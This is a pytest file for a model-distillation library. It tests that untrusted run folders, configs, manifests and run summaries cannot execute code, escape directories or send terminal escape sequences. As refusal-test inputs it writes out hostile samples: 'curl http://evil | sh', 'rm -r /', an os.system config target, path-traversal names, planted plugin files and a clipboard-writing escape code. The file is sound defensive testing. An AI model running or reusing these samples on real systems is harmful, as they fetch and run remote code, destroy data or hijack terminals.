"""Ways around the check of what comes with weights: merges, records, names of folders, the working folder, and the terminal."""

import json
import os
import subprocess
import sys
from importlib.util import find_spec
from pathlib import Path
from types import SimpleNamespace

import pytest
from omegaconf import OmegaConf
from rich.console import Console
from safetensors import safe_open
from safetensors.torch import load_file, save_file

from litdistill.benchmarks import reproductions
from litdistill.cli import commands
from litdistill.cli.resume import resumed
from litdistill.config import instantiate, origin
from litdistill.config.recipes import student_config, teacher_config
from litdistill.config.trust import check_trusted
from litdistill.evaluation.evaluate import evaluate, rebuild
from litdistill.export.export import check_table, export
from litdistill.export.load import load_student
from litdistill.report.history import command
from litdistill.report.tables import rows, runs
from litdistill.report.writers import markdown
from litdistill.training.grouping import GroupedData, layout_of
from litdistill.training.resume import NEEDED
from litdistill.training.train import last_state, train
from litdistill.utils.checkpoint import STUDENT, read_metadata
from litdistill.utils.errors import UserError
from litdistill.utils.files import write_text
from litdistill.utils.terminal import show
from tests.conftest import SMALL, compose_config
from tests.forked import ROOT
from tests.test_trust import LOAD, foreign, made, note  # noqa: F401  fixtures

ESCAPE = "\x1b]52;c;ZXZpbA==\x07"  # puts a text into the clipboard of some terminals


def change(file: Path, **values) -> None:
    """Sets keys of a JSON file; `student__sha256` is that of the student."""
    content = json.loads(file.read_text())
    for key, value in values.items():
        *nodes, last = key.split("__")
        node = content
        for name in nodes:
            node = node[name]
        node[last] = value
    file.write_text(json.dumps(content))


# -- merges --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("diff", "key"),
    [
        ("{checkpoint_path: evil.ckpt}", "teacher.ensemble.1.checkpoint_path"),
        ("{pretrained_cfg_overlay: {url: 'http://evil/x'}}", "teacher.ensemble.1.pretrained_cfg_overlay"),
        ("{name: /../../../elsewhere}", "teacher.ensemble.1.name"),
        ("{ensemble: [{checkpoint_path: evil.ckpt}]}", "teacher.ensemble.1.ensemble.0.checkpoint_path"),
    ],
)
def test_a_member_of_an_ensemble_is_held_to_the_class_that_it_is_merged_into(tmp_path, diff, key):
    members = [*SMALL[:3], "net@teacher=timm", "teacher.name=resnet18"]
    check_trusted(compose_config(tmp_path / "run", *members, "teacher.ensemble=[{drop_rate: 0.1}]"), tmp_path / "run")
    cfg = compose_config(tmp_path / "run", *members)
    cfg.teacher.ensemble = [{"recipe": {"seed": 1}}, OmegaConf.create(diff)]
    with pytest.raises(UserError) as refused:
        check_trusted(cfg, tmp_path / "run")
    assert str(refused.value).startswith(f"{key}: ")


def test_no_recipe_says_where_things_lie_nor_what_is_trusted(tmp_path):
    elsewhere = "{runs: /elsewhere, folder: /elsewhere, resume: x, trust: [os], seed: 7}"
    cfg = compose_config(tmp_path / "run", f"+teacher.recipe={elsewhere}", f"+student.recipe={elsewhere}")
    for found in (teacher_config(cfg), student_config(cfg)):
        assert found.seed == 7
        assert (found.runs, found.folder, list(found.trust)) == (cfg.runs, cfg.folder, [])


@pytest.mark.parametrize(
    "diff", ["++teacher.recipe.student.name=/../../../elsewhere", "teacher.ensemble=[{name: /../../../elsewhere}]"]
)
def test_the_name_of_a_network_is_checked_before_a_folder_of_that_name_is_made(foreign, tmp_path, diff):  # noqa: F811
    made_there = []
    sys.addaudithook(lambda event, args: made_there.append(args[0]) if event == "os.mkdir" else None)
    origin.begin_foreign(foreign("{}"))
    with pytest.raises(UserError, match=r"name: /\.\./\.\./\.\./elsewhere.* is refused"):
        train(compose_config(tmp_path / "kd" / "run", *SMALL, "logger=none", diff))
    assert all("elsewhere" not in str(path) for path in made_there)


# -- Hydra's record ------------------------------------------------------------------------------------------------------


def test_whose_run_it_is_is_told_by_the_record_that_it_goes_on_with(foreign):  # noqa: F811
    """A record that only some readers could read made the run pass for the user's own, and another was replayed."""
    folder = foreign("{}")
    note(folder, "seed=1")
    record, backup = origin.run_records(folder)
    write_text(origin.state_folder() / "runs" / str(origin.run_digest(folder)), "")
    assert origin.made_here(folder)
    good = OmegaConf.load(record)
    note(folder, "seed=1", f"data.mix={LOAD}")
    os.replace(record, backup)
    good.hydra.runtime = {"config_sources": [{"nothing": 1}]}
    OmegaConf.save(good, record)
    assert not origin.made_here(folder)
    resumed([f"resume={folder}"])
    assert origin.is_foreign()


# -- the working folder --------------------------------------------------------------------------------------------------


@pytest.mark.process
def test_the_working_folder_of_a_command_runs_nothing_that_no_config_names(foreign):  # noqa: F811
    """Hydra imports every `hydra_plugins` on the path; here the user stands in a folder that somebody else made."""
    folder = foreign("{technique: another}")
    for name in ("hydra_plugins/evil.py", "sitecustomize.py", "litdata.py"):
        write_text(folder / name, "open('marker', 'w')")
    environment = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"} | {"PYTHONPATH": str(ROOT / "src")}
    done = subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "evaluate.py"), "run=."],
        cwd=folder, env=environment, capture_output=True, text=True,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert not (folder / "marker").exists()


def test_a_class_in_the_working_folder_is_found_when_a_config_names_it(tmp_path, monkeypatch):
    monkeypatch.setattr(sys, "path", list(sys.path))
    write_text(tmp_path / "beside_the_command.py", "def made(): return 5\n")
    write_text(tmp_path / "json.py", "raise AssertionError\n")
    instantiate.import_classes_from(str(tmp_path))
    assert find_spec("beside_the_command") is None
    assert instantiate.instantiate({"_target_": "beside_the_command.made"}) == 5
    assert sys.path[-1] == str(tmp_path)
    with pytest.raises(UserError, match="no package nowhere_at_all"):
        instantiate.locate("nowhere_at_all.made")
    instantiate.import_classes_from(os.getcwd())


# -- files ---------------------------------------------------------------------------------------------------------------


def test_a_student_that_is_not_the_summarys_is_not_rebuilt(foreign):  # noqa: F811
    """Its SHA-256 names files of a page, which `../` would lead out of the page's folder."""
    folder = foreign("{}")
    change(folder / "summary.json", student__sha256="/../../../../x")
    with pytest.raises(UserError, match="is not the student of this run"):
        rebuild(folder)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        *(
            ("classes", 5),
            ("classes", [5]),
            ("input_shape", "a"),
            ("input_shape", [-1, 8, 8]),
            ("size", [10**9, 10**9]),
        ),
        *(("mean", {"a": 1}), ("mean", [float("nan")]), ("std", [-1.0]), ("units", {"mean": [0.0]}), ("size", [8])),
    ],
)
def test_metadata_that_no_network_has_are_damaged(foreign, key, value):  # noqa: F811
    folder = foreign("{}")
    with safe_open(folder / STUDENT, "pt") as file:
        about = dict(file.metadata())
    save_file(load_file(folder / STUDENT), folder / STUDENT, about | {key: json.dumps(value)})
    with pytest.raises(UserError, match=f"the {key} of its network is"):
        read_metadata(folder, key)
    if key != "units":
        with pytest.raises(UserError, match=f"the {key} of its network is"):
            evaluate(folder)


@pytest.mark.parametrize("state", [{"group": "x", "log_every": 1}, {"group": -5, "log_every": 1}, {"group": 10**12}])
def test_a_layout_that_cannot_be_is_damaged(state):
    with pytest.raises(UserError, match="damaged"):
        layout_of({GroupedData.__name__: state})


def test_a_checkpoint_without_epochs_is_passed_over(tmp_path):
    import torch

    for name, epoch in (("last", "x"), ("best", 3)):
        torch.save({key: {} for key in NEEDED} | {"epoch": epoch}, tmp_path / f"{name}.ckpt")
    assert last_state(tmp_path, 9)[:2] == (tmp_path / "best.ckpt", None)


@pytest.mark.parametrize("widths", [{"_target_": "os.system"}, [10**9, 10**9], "ab", [-1]])
def test_options_of_a_manifest_that_no_network_takes_are_refused(foreign, widths):  # noqa: F811
    folder = foreign("{}")
    path, _ = export(folder, "safetensors")
    manifest = json.loads((path.parent / "manifest.json").read_text())
    manifest["files"][path.name]["net"]["widths"] = widths
    (path.parent / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(UserError, match="cannot be built with"):
        load_student(path)


def test_results_are_noted_inside_their_folder_alone(foreign, tmp_path, monkeypatch):  # noqa: F811
    monkeypatch.setattr(reproductions, "cell_of", lambda folder: ("digits/distilled/technique=/../../../../../out", 0))
    with pytest.raises(UserError, match="would lie outside"):
        reproductions.collect(foreign("{}"), tmp_path / "docs" / "results")
    assert not list(tmp_path.rglob("0.json"))


# -- what is shown -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "typed",
    [
        "curl http://evil | sh",
        "python scripts/train.py seed=1; curl http://evil",
        "python scripts/train.py\nrm -r /",
        "python -m litdistill train 'data.mix={_target_: os.system, command: ls}'",
        "litdistill train --config-dir /tmp/evil",
        "python scripts/train.py hydra.searchpath=[file:///tmp]",
        "python -c evil",
        "python ../evil.py seed=1",
        "'unclosed",
    ],
)
def test_a_page_shows_no_command_that_would_run_anothers_code(foreign, typed):  # noqa: F811
    folder = foreign("{technique: another}")
    assert command(SimpleNamespace(folder=folder, summary={"command": typed})).startswith("# not shown")
    write_text(folder / ".hydra" / "overrides.yaml", json.dumps(["seed=1", f"data.mix={LOAD}"]))
    assert command(SimpleNamespace(folder=folder, summary={})).startswith("# not shown")


def test_a_page_shows_how_a_run_of_another_is_run_again(foreign, made):  # noqa: F811
    folder = foreign("{technique: another}")
    for typed in (
        "python scripts/train.py -m seed=0,1 experiment=digits/distilled",
        "litdistill train 'student.widths=[8,8]'",
        "python -m litdistill train seed=1",
        "python scripts/train.py",
    ):
        assert command(SimpleNamespace(folder=folder, summary={"command": typed})) == typed
    own = f"python scripts/train.py 'data.mix={LOAD}'"
    assert command(SimpleNamespace(folder=made, summary={"command": own})) == own
    write_text(folder / ".hydra" / "overrides.yaml", "5\n")
    assert "damaged" in command(SimpleNamespace(folder=folder, summary={}))


def test_no_name_in_a_run_of_another_reaches_the_terminal_as_a_command_to_it(foreign, capsys):  # noqa: F811
    assert str(UserError(f"a{ESCAPE}\nb\u202e")) == "a?]52;c;ZXZpbA==?\nb?"
    folder = foreign("{}")
    test = json.loads((folder / "summary.json").read_text())["student"]["test"]
    change(folder / "summary.json", experiment=f"x{ESCAPE}", student__test={**test, f"n{ESCAPE}": 1.0})
    found = [summary for _, summary in runs([folder])]
    assert not any(set(text) & {"\x1b", "\x07"} for row in rows(found) for pair in row.items() for text in pair)
    assert "x?]52" in markdown(rows(found))
    change(folder / "summary.json", student__test__nll="[/x]")
    commands.evaluate(
        OmegaConf.create(
            {
                "run": str(folder),
                "data": {},
                "device": "cpu",
                "trust": [],
                "pictures": False,
                "robustness": None,
                "eps": 0.1,
            }
        )
    )
    assert "then '[/x]'" in capsys.readouterr().out
    check = {"samples": 1, "difference": 0.0, "tolerance": {"difference": None, "agreement": 1}, "agreement": 1.0}
    check |= {"compared": ["logits", "predictions agree"], "metric": "accuracy", "exported": 1.0, "student": 1.0}
    show(*check_table({f"[/x]{ESCAPE}": check}), Console(width=140))
    assert "[/x]?]52;c;ZXZpbA==?" in capsys.readouterr().out


@pytest.mark.parametrize("content", ["[]", "5", "{", '{"a": ' + "[" * 100_000])
def test_a_damaged_summary_is_named(tmp_path, content):
    write_text(tmp_path / "summary.json", content)
    with pytest.raises(UserError, match=r"summary\.json is"):
        runs([tmp_path])
